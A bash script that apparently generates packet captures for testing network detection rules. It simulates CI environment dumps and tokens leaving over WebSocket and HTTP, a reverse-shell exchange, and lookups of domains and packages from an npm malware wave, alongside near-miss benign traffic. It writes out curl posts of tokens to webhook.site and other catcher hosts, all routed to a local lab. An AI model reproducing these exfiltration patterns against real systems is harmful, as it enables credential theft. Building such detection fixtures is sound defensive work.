#!/bin/bash
# websocket.sh [CASE ...] — captures of secrets leaving through WebSocket and HTTP, pcaps/websocket-exfil/.
#
# clients   node with the ws package (fetched into a temporary folder, or SK_NODE_MODULES=folder), curl, dig
# source    rules/websocket-exfil.yaml cites what the shapes follow
PCAPS=websocket-exfil
. "$(dirname "$0")/lib.sh"
if [ -n "${SK_NODE_MODULES:-}" ]; then
  export NODE_PATH=$SK_NODE_MODULES
else
  (cd "$SC_TMP" && npm install --silent --no-audit --no-fund --ignore-scripts ws@8.18.0 >/dev/null)
  export NODE_PATH=$SC_TMP/node_modules
fi
sc_up

NODE=$(command -v node)
WS_V="Node.js $(node --version | tr -d v) with ws $(node -p "require('ws/package.json').version")"
EDGE='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36'
$SHAPES env >"$SC_TMP/env"
$SHAPES env-windows >"$SC_TMP/envw"
ws_server() { serve right 8080 env NODE_PATH="$NODE_PATH" "$NODE" "$SC_HERE/ws/server.js" "$1" 8080 "${2:-none}"; }
ws() { local o=$1; shift; left "$NODE" "$SC_HERE/ws/client.js" "ws://$RIGHT:8080/" "$o" "$@"; }
# ws_case CASE SERVER DEFLATE OPTIONS FILES TITLE SHOWS FIRES SILENT
ws_case() {
  wants "$1" || return 0
  ws_server "$2" "$3"
  begin "$1"
  # shellcheck disable=SC2086
  ws "$4" $5
  end 2025-07-19T09:00:00Z
  unserve
  note "$6" "$7" "$WS_V on both sides" "$8" "$9"
}

ws_case env-text collector none '{}' "$SC_TMP/env" "Environment over WebSocket" \
  "a script's handshake (no User-Agent, no Origin), then the environment of an npm install script in a CI job as one text message; all values made up" \
  "websocket-exfil.env-dump once" "-"
ws_case env-deflate collector takeover '{"deflate":"takeover"}' "$SC_TMP/env $SC_TMP/env" "Environment over WebSocket, deflated" \
  "the dump twice with permessage-deflate and context takeover: the second message is little more than references into the first" \
  "websocket-exfil.env-dump for each message" "-"
ws_case env-deflate-fresh collector fresh '{"deflate":"fresh"}' "$SC_TMP/env $SC_TMP/env" "Environment over WebSocket, deflated without context" \
  "the dump twice with permessage-deflate and no context takeover" "websocket-exfil.env-dump for each message" "-"
ws_case env-fragments collector none '{"fragments":7,"ping":true}' "$SC_TMP/env" "Environment over WebSocket in seven frames" \
  "one text message in seven frames with a ping after the first" "websocket-exfil.env-dump once" "-"
ws_case env-fragments-deflate collector takeover '{"deflate":"takeover","fragments":5,"ping":true}' "$SC_TMP/env" \
  "Environment over WebSocket, deflated and in frames" "one deflated message in five frames with a ping after the first" \
  "websocket-exfil.env-dump once" "-"
ws_case env-binary collector none '{"binary":true}' "$SC_TMP/env" "Environment as a binary message" "the dump with opcode binary" \
  "websocket-exfil.env-dump once" "-"
ws_case env-windows collector none '{}' "$SC_TMP/envw" "Environment of a Windows host" "names of Windows and npm, backslashes escaped as JSON does" \
  "websocket-exfil.env-dump once" "-"
if wants env-base64; then
  for before in '' x xx; do printf '{"type":"sysinfo","data":"%s"}' "$($SHAPES env-base64 "$before")" >"$SC_TMP/env64$before"; done
fi
ws_case env-browser collector none "{\"origin\":\"https://console.example.org\",\"agent\":\"$EDGE\"}" "$SC_TMP/env" \
  "Environment sent by a browser" "the dump over a WebSocket whose handshake has User-Agent and Origin, as a console in a browser sends it" \
  "websocket-exfil.env-browser once" "websocket-exfil.env-dump"
ws_case env-base64 collector none '{}' "$SC_TMP/env64 $SC_TMP/env64x $SC_TMP/env64xx" "Environment in base64" \
  "the dump in base64 inside JSON, three times: with nothing, one byte and two bytes before it, so that each alignment occurs" \
  "websocket-exfil.env-base64 three times" "-"
$SHAPES env-lines >"$SC_TMP/envl"
ws_case env-lines collector none '{}' "$SC_TMP/envl" "Environment as lines" "the dump as env(1) prints it" "websocket-exfil.env-dump once" "-"
printf 'inert-runner-01 is here' >"$SC_TMP/sh1"
printf 'runner' >"$SC_TMP/sh2"
printf 'uid=1001(runner) gid=1001(runner) groups=1001(runner)' >"$SC_TMP/sh3"
printf '{"out":"Linux inert-runner-01 6.1.0-13-amd64 #1 SMP x86_64 GNU/Linux"}' >"$SC_TMP/sh4"
ws_case remote-shell remote none '{}' "$SC_TMP/sh1 $SC_TMP/sh2 $SC_TMP/sh3 $SC_TMP/sh4" "A shell turned round" \
  "a script opens a WebSocket; the server sends shell commands, the client what they would print; nobody runs them" \
  "websocket-exfil.remote-shell once" "-"
printf '["stdin","id\\r"]' >"$SC_TMP/term1"
ws_case terminal terminal none "{\"origin\":\"https://console.example.org\",\"agent\":\"$EDGE\"}" "$SC_TMP/term1 $SC_TMP/term1" \
  "Near miss: a console in a browser" "a person types commands into a web terminal; commands go to the server, their output comes back" "-" "every rule of websocket-exfil"
{
  printf -- '-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEinert\n-----END PUBLIC KEY-----\n'
  printf -- '-----BEGIN CERTIFICATE-----\nMIIBinert\n-----END CERTIFICATE-----\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInertInertInertInertInertInertInertInert runner@inert\n'
} >"$SC_TMP/quiet1"
printf '{"server":{"host":"0.0.0.0","port":8080},"log":{"level":"info","path":"/var/log/app.log"},"user":"app","home":"/srv/app","registry":"https://registry.npmjs.org/"}' >"$SC_TMP/quiet2"
printf '{"resource":{"host.name":"inert-01","process.runtime.name":"nodejs","os.type":"linux"},"metrics":[{"name":"http.server.duration","sum":12.5,"count":4}],"env":{"NODE_ENV":"production"}}' >"$SC_TMP/quiet3"
printf '{"auth":"%s","docs":"a token looks like %s"}' eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJpbmVydCIsIm5hbWUiOiJJbmVydCJ9.c2lnbmF0dXJlLW9mLW5vdGhpbmc "$($SHAPES token sample)" >"$SC_TMP/quiet4"
ws_case quiet collector takeover '{"deflate":"takeover"}' "$SC_TMP/quiet1 $SC_TMP/quiet2 $SC_TMP/quiet3 $SC_TMP/quiet4" "Near miss: what is no secret" \
  "a script sends public keys and certificates, a configuration without secrets, telemetry, and a session's JWT next to a sample token whose checksum does not fit" \
  "-" "every rule of websocket-exfil but marks"
ws_case shell shell none '{"extra":["inert-runner-01"]}' "$SC_TMP/env" "Environment out, script in" \
  "after the dump the server sends a line of script and the client answers; nobody runs it" \
  "websocket-exfil.env-dump and websocket-exfil.code-push once each, and websocket-exfil.backdoor, the sequence, once" "-"
if wants tokens; then
  printf '//registry.npmjs.org/:_authToken=%s\n' "$($SHAPES token npm)" >"$SC_TMP/npmrc"
  printf '{"gh":"%s"}' "$($SHAPES token pat)" >"$SC_TMP/gh"
fi
ws_case tokens collector none '{}' "$SC_TMP/npmrc $SC_TMP/gh" "Tokens alone" "the line of an .npmrc and a fine-grained GitHub token; neither is valid" \
  "websocket-exfil.token twice" "websocket-exfil.env-dump"

# --- near misses ---------------------------------------------------------------------------------------------------
printf 'Has anybody seen my PATH=/usr/bin problem? I think HOME is not set.' >"$SC_TMP/chat1"
printf 'Put npm_config_registry into your .npmrc, and never post a GITHUB_TOKEN here.' >"$SC_TMP/chat2"
ws_case chat chat takeover "{\"deflate\":\"takeover\",\"origin\":\"https://chat.example.org\",\"agent\":\"$EDGE\"}" "$SC_TMP/chat1 $SC_TMP/chat2" \
  "Near miss: people talk about environments" "a browser's chat that names variables and tokens without having any" "-" "every rule of websocket-exfil"
printf '{"type":"custom","event":"ping"}' >"$SC_TMP/hmr1"
ws_case hot-reload hmr none "{\"protocol\":\"vite-hmr\",\"origin\":\"http://localhost:5173\",\"agent\":\"$EDGE\"}" "$SC_TMP/hmr1 $SC_TMP/hmr1" \
  "Near miss: hot reload" "a development server tells a browser which modules changed" "-" "every rule of websocket-exfil"
printf '{"op":"metrics","env":{"LANG":"C.UTF-8","TERM":"xterm-256color"},"cpu":3,"load":[0.1,0.2,0.1]}' >"$SC_TMP/bot1"
ws_case bot collector takeover '{"deflate":"takeover"}' "$SC_TMP/bot1 $SC_TMP/bot1" "Near miss: a monitoring agent" \
  "a script's handshake like the stealer's, then measurements with two harmless variables" "-" "every rule of websocket-exfil but marks"
printf '{"level":"info","job":17,"line":"npm warn config npm_config_registry is deprecated, HOME=/root used"}' >"$SC_TMP/log1"
ws_case log-shipping collector none '{}' "$SC_TMP/log1 $SC_TMP/log1" "Near miss: a build's log" "log lines of a build that name a variable" "-" \
  "every rule of websocket-exfil but marks"

# --- HTTP and names ------------------------------------------------------------------------------------------------
serve right 80 "$PY" "$SC_HERE/server.py" plain 80
if wants http-token; then
  begin http-token
  web --resolve "webhook.site:80:$RIGHT" -H 'Content-Type: text/plain' --data "$($SHAPES token github)" http://webhook.site/00000000-0000-4000-8000-000000000000
  web --resolve "collect.example.net:80:$RIGHT" -H 'Content-Type: application/json' --data-binary "@$SC_TMP/env" http://collect.example.net/v1
  end 2025-07-20T12:00:00Z
  note "Secrets in HTTP bodies" "a GitHub token (not valid) posted to a request catcher by curl, then the environment dump posted to some host" "$CURL_V, server.py" \
    "websocket-exfil.token-post once, websocket-exfil.env-post once" "-"
fi
if wants http-token-near; then
  begin http-token-near
  web --resolve "api.example.org:80:$RIGHT" -H "Authorization: token $($SHAPES token github)" --data '{"name":"inert"}' http://api.example.org/repos
  web --resolve "webhook.site:80:$RIGHT" --data '{"event":"build","ok":true}' http://webhook.site/00000000-0000-4000-8000-000000000000
  web --resolve "docs.example.org:80:$RIGHT" --data 'text=tokens begin with ghp_ and have 40 characters' http://docs.example.org/comment
  end 2025-07-20T12:10:00Z
  note "Near miss: tokens where they belong" "a token in the Authorization field of an API call, a web hook without secrets, a text about tokens" "$CURL_V, server.py" "-" \
    "every rule of websocket-exfil"
fi
if wants npm-tarball; then
  begin npm-tarball
  web --resolve "registry.npmjs.org:80:$RIGHT" -A 'npm/10.8.2 node/v20.20.2 linux x64 workspaces/false' http://registry.npmjs.org/is/-/is-3.3.1.tgz
  web --resolve "registry.npmjs.org:80:$RIGHT" -A 'npm/10.8.2 node/v20.20.2 linux x64 workspaces/false' http://registry.npmjs.org/@toptal/picasso-tailwind/-/picasso-tailwind-3.1.0.tgz
  web --resolve "registry.npmjs.org:80:$RIGHT" -A 'npm/10.8.2 node/v20.20.2 linux x64 workspaces/false' http://registry.npmjs.org/is/-/is-3.3.2.tgz
  web --resolve "nexus.example.org:80:$RIGHT" -A 'npm/10.8.2 node/v20.20.2 linux x64 workspaces/false' http://nexus.example.org/repository/npm/eslint-config-prettier/-/eslint-config-prettier-10.1.6.tgz
  web --resolve "nexus.example.org:80:$RIGHT" -A 'npm/10.8.2 node/v20.20.2 linux x64 workspaces/false' http://nexus.example.org/repository/npm/this-is/-/is-3.3.1.tgz
  web --resolve "registry.npmjs.org:80:$RIGHT" -A 'npm/10.8.2 node/v20.20.2 linux x64 workspaces/false' http://registry.npmjs.org/@toptal/picasso-tailwind/-/picasso-tailwind-3.1.1.tgz
  end 2025-07-20T12:20:00Z
  note "Packages of the wave fetched through a proxy in clear" "three tarballs that were malicious, one of them below a mirror's folder; the next releases of two of them, and another package's file of the same name" "$CURL_V, server.py" \
    "websocket-exfil.bad-package three times" "websocket-exfil.bad-package for the other three"
fi
if wants names-http; then
  begin names-http
  web --resolve "firebase.su:80:$RIGHT" -A 'curl/8.5.0' http://firebase.su/c/k2
  web --resolve "DATAHOG.SU:80:$RIGHT" -A 'curl/8.5.0' http://DATAHOG.SU/c/k1
  web --resolve "firebase.example.org:80:$RIGHT" "http://firebase.example.org/c/k2?u=firebase.su"
  end 2025-07-18T12:25:00Z
  note "Names of the npm wave in clear HTTP" "two published hosts, then another that has one in its query" "$CURL_V, server.py" "websocket-exfil.name-http twice" "anything for the last"
fi
unserve
if wants install-window || wants install-near || wants names-tls; then
  openssl req -x509 -newkey rsa:2048 -nodes -keyout "$SC_TMP/k" -out "$SC_TMP/c" -days 30 -subj /CN=inert.example 2>/dev/null
  serve right 443 openssl s_server -accept 443 -cert "$SC_TMP/c" -key "$SC_TMP/k" -quiet -rev
  tls() { { $SHAPES noise 400; sleep 0.2; } | left openssl s_client -connect "$RIGHT:443" -quiet -no_ign_eof -servername "$1" >/dev/null 2>&1 || true; }
  T="openssl s_client and s_server, $SSL_V"
  if wants install-window; then
    begin install-window
    tls registry.npmjs.org
    tls webhook.site
    end 2025-07-20T12:30:00Z
    note "A package install, then a request catcher" "TLS to the npm registry, a moment later TLS to webhook.site from the same host" "$T" \
      "websocket-exfil.install-window once" "-"
  fi
  if wants install-near; then
    begin install-near
    tls webhook.site
    tls registry.npmjs.org
    tls notwebhook.site
    end 2025-07-20T12:40:00Z
    note "Near miss: the other way round" "a request catcher, then the npm registry, then a name that ends alike" "$T" "-" "websocket-exfil.install-window"
  fi
  if wants names-tls; then
    begin names-tls
    tls npnjs.com
    tls registry.npmjs.com
    tls npnjs.com.example.org
    end 2025-07-18T12:20:00Z
    note "TLS to a name of the npm wave" "the published phishing host, the registry's own other name, a near name" "$T" "websocket-exfil.name-tls once" \
      "anything for the last two"
  fi
  unserve
fi
if wants names-dns; then
  printf 'no-resolv\nno-hosts\nno-daemon\nuser=root\nbind-interfaces\nlisten-address=%s\nlocal=/com/\nlocal=/su/\nlocal=/org/\n' $RIGHT >"$SC_TMP/dns.conf"
  serve right 53 dnsmasq -C "$SC_TMP/dns.conf" --pid-file="$SC_TMP/dnsmasq.pid"
  begin names-dns
  for n in npnjs.com www.smartscreen-api.com dieorsuffer.com datalytica.su npmjs.help www.nprnjs.com npmjs.com firebase.com npnjs.com.example.org smartscreen-apis.com; do
    left dig +time=2 +tries=1 +noedns @$RIGHT "$n" A >/dev/null || true
  done
  end 2025-07-18T12:30:00Z
  unserve
  note "Names of the npm wave" "four published names, two that pass for npm's, npm's own, then three that look like the first" "$(dig -v 2>&1 | sed 's/^DiG /dig /; s/-.*//'), $(dnsmasq --version | sed -n '1s/Dnsmasq version \([^ ]*\).*/dnsmasq \1/p')" \
    "websocket-exfil.name-dns four times, websocket-exfil.npm-lookalike three times" "anything for the last four"
fi
